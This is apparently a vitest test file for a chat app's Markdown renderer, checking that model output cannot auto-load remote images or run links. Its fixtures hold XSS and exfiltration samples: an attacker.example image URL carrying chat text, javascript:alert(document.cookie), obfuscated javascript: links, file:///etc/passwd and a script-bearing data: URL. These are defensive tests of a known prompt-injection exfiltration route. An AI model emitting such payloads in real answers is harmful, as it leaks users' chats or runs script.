// A model's markdown, rendered as the chat shows it: nothing in it loads from anywhere without a click, and no link
// runs script or opens a local file. (Answers may be steered by a prompt injection.)
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { beforeEach, describe, expect, it, vi } from 'vitest'
import { Markdown } from '../../../../../renderer/panels/chat/Markdown'

// The language the panel is shown in, without the whole app store.
const store = vi.hoisted(() => ({ language: 'en' as 'en' | 'zh' }))
vi.mock('../../../../../renderer/stores/app-store', () => ({ useAppStore: (select: (s: typeof store) => unknown) => select(store) }))

const render = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }))
const inside = (html: string) => html.replace(/^<div class="chat-markdown">/, '').replace(/<\/div>$/, '')
const button = (url: string, text: string) =>
  `<span class="chat-linked-image"><button type="button" class="link" title="${url}" data-testid="chat-load-image">${text}</button></span>`

beforeEach(() => {
  store.language = 'en'
})

describe('markdown images', () => {
  it('an https image is a button naming its host, not an <img>; raw HTML images stay text', () => {
    const url = 'https://attacker.example/log?q=the%20chat%20so%20far'
    const html = render(`Here: ![x](${url}) <img src="https://attacker.example/y.png">`)
    expect(inside(html)).toBe(`<p>Here: ${button(url, 'Load image from attacker.example')} &lt;img src=&quot;https://attacker.example/y.png&quot;&gt;</p>`)
    expect(html).not.toMatch(/<img/)
  })

  it('so is an http image, a reference-style one and one inside a link; the port is part of the host', () => {
    const html = render('![a](http://example.com:8080/a.png)\n\n![b][ref]\n\n[![c](https://cdn.example/c.gif)](https://example.org/)\n\n[ref]: https://img.example/b.webp')
    expect(html).not.toMatch(/<img/)
    expect(inside(html)).toBe([
      `<p>${button('http://example.com:8080/a.png', 'Load image from example.com:8080')}</p>`,
      `<p>${button('https://img.example/b.webp', 'Load image from img.example')}</p>`,
      `<p><a href="https://example.org/" target="_blank" rel="noreferrer noopener">${button('https://cdn.example/c.gif', 'Load image from cdn.example')}</a></p>`,
    ].join('\n'))
  })

  it('the button speaks Chinese when the app does', () => {
    store.language = 'zh'
    expect(inside(render('![x](https://attacker.example/a.png)'))).toBe(`<p>${button('https://attacker.example/a.png', '从 attacker.example 加载图像')}</p>`)
  })

  it('a data: image is shown inline', () => {
    const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
    expect(inside(render(`![dot](${png})`))).toBe(`<p><img src="${png}" alt="dot"/></p>`)
  })

  it.each([
    ['javascript:', 'javascript:alert(1)'],
    ['file:', 'file:///etc/passwd'],
    ['vbscript:', 'vbscript:msgbox(1)'],
    ['a non-image data:', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
    ['a custom scheme', 'gatehouse://open'],
    ['ftp:', 'ftp://files.example/a.png'],
    ['a path on the gateway', '/admin/v1/media/med_1'],
    ['a protocol-relative link', '//attacker.example/a.png'],
  ])('an image from %s is neither loaded nor offered: its alt text only', (_what, src) => {
    expect(inside(render(`![the alt](${src})`))).toBe('<p><span>the alt</span></p>')
  })
})

describe('markdown links', () => {
  it('http(s) and mailto links open outside the app, telling the site nothing', () => {
    expect(inside(render('[a](https://example.com/a?b=c) [b](http://example.com) [c](mailto:me@example.com) https://example.net/auto'))).toBe(
      '<p><a href="https://example.com/a?b=c" target="_blank" rel="noreferrer noopener">a</a> '
      + '<a href="http://example.com/" target="_blank" rel="noreferrer noopener">b</a> '
      + '<a href="mailto:me@example.com" target="_blank" rel="noreferrer noopener">c</a> '
      + '<a href="https://example.net/auto" target="_blank" rel="noreferrer noopener">https://example.net/auto</a></p>',
    )
  })

  it.each([
    ['javascript:', '[click](javascript:alert(document.cookie))'],
    ['javascript: in capitals', '[click](JaVaScRiPt:alert(1))'],
    ['javascript: as character references', '[click](&#106;avascript:alert(1))'],
    ['data:', '[click](data:text/html,<script>alert(1)</script>)'],
    ['file:', '[click](file:///etc/passwd)'],
    ['vbscript:', '[click](vbscript:msgbox(1))'],
    ['a custom scheme', '[click](gatehouse://settings)'],
    ['a path on the gateway', '[click](/admin/v1/groups)'],
  ])('a link to %s is plain text', (_what, text) => {
    expect(inside(render(text))).toBe('<p><span>click</span></p>')
  })

  it('an autolink with another scheme is plain text too', () => {
    expect(inside(render('<javascript:alert(1)> <file:///etc/passwd>'))).toBe('<p><span>javascript:alert(1)</span> <span>file:///etc/passwd</span></p>')
  })

  it('footnote references stay in the answer', () => {
    const html = render('Said[^1].\n\n[^1]: A source.')
    expect(html).toContain('<sup><a id="user-content-fnref-1" data-footnote-ref="true" aria-describedby="footnote-label" href="#user-content-fn-1">1</a></sup>')
    expect(html).toContain('class="data-footnote-backref" href="#user-content-fnref-1">↩</a>')
    expect(html).not.toContain('target="_blank"')
  })
})
